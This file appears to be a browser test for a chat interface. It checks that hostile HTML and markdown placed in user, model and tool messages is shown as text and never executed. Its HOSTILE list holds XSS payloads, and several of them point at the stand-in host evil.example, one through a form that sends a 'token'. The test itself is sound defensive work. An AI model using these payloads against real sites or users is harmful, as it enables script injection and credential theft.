"""What models, tools and users write is shown, and never run."""

from playwright.sync_api import Page, expect

from tests.browser.looking import Watch, shot
from tests.browser.program import Server

HOSTILE = (
    "<script>window.hacked = 1</script>",
    '<img src="x" onerror="window.hacked = 1">',
    '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
    '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    "[a link](javascript:window.hacked=1) and [another](data:text/html,<script>1</script>)",
    "![a picture](https://evil.example/pixel.png)",
    '<form action="https://evil.example"><input name="token"><button>Send</button></form>',
    '<a href="https://evil.example" onclick="window.hacked = 1">Click</a>',
    "<style>body { display: none }</style>",
)
END = "That was all."


def test_hostile_text_of_user_model_and_tool_is_not_run(
    signed_in: Page, server: Server, watch: Watch
) -> None:
    page = signed_in
    page.on("dialog", lambda dialog: dialog.dismiss())
    said = "\n".join(f"say {each}\nsay \nthink {each}" for each in HOSTILE)
    calls = "\n".join(f'call echo {{"text": {_quoted(each)}}}' for each in HOSTILE[:3])
    chat_id = server.start_chat(f"{said}\n{calls}\nnext\nsay {END}")

    page.goto(f"{server.address}/chats/{chat_id}")
    expect(page.get_by_role("article", name="Agent").last).to_contain_text(END)
    for card in page.get_by_role("button", name="echo").all():
        card.click()
    shot(page, "hostile")

    assert page.evaluate("window.hacked") is None
    assert (
        page.locator("main iframe, main form[action], main script, main style, main svg[onload]").count() == 0
    )
    targets = page.locator("a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(targets) <= {"http:", "https:"}
    assert page.locator("[onerror], [onclick], [onload]").count() == 0
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()


def _quoted(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{escaped}"'
